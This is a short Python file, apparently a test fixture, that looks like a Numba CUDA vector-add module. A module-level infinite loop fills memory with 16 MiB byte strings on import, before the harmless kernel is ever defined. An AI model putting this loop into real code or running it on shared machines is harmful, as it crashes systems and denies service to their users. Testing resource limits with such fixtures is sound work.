"""Takes all the memory there is."""

from numba import cuda

_hoard = []
while True:
    _hoard.append(b"x" * 2**24)


@cuda.jit
def vector_add(a, b, c, n):
    i = cuda.grid(1)
    if i < n:
        c[i] = a[i] + b[i]
